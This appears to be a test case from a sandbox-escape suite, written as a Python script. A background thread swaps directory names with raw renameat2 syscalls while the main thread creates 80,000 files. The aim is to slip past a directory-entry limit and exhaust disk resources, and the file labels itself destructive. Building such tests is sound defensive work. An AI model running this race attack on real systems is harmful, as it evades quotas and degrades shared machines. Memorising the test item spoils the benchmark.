# class: disk
# expect: lenient=denied standard=denied strict=denied
# note: the count of entries must not miss names that move during the count
# open: the count of a private directory comes seconds late, or misses what changes its name meanwhile
# control: destructive
# protocol: prints 'ESCAPED: ...' when the attack works, 'BLOCKED ...' (or dies) when it does not
def main():
    import ctypes
    _l = ctypes.CDLL(None, use_errno=True)
    def SC(n, *a):
        r = _l.syscall(ctypes.c_long(n), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
        if r < 0: raise OSError(ctypes.get_errno(), "syscall %d" % n)
        return r
    import os, threading, time
    fds, path = [], "."
    for k in range(12):
        for n in "xy": os.mkdir(path + "/" + n)
        fds.append(os.open(path, os.O_RDONLY)); path += "/x"
    deep = os.open(path, os.O_RDONLY)
    def flip():
        while True:
            for f in fds: _l.syscall(ctypes.c_long(316), ctypes.c_long(f), b"x", ctypes.c_long(f), b"y", ctypes.c_long(2))
    threading.Thread(target=flip, daemon=True).start()
    for n in range(80000): os.close(os.open(str(n), os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=deep))
    time.sleep(0.5)
    return "80,000 entries, four times the limit, while names were changing places"
try:
    r = main()
    print('ESCAPED: ' + str(r) if r else 'BLOCKED')
except BaseException as e:
    print('BLOCKED ' + e.__class__.__name__ + ': ' + str(e)[:160])
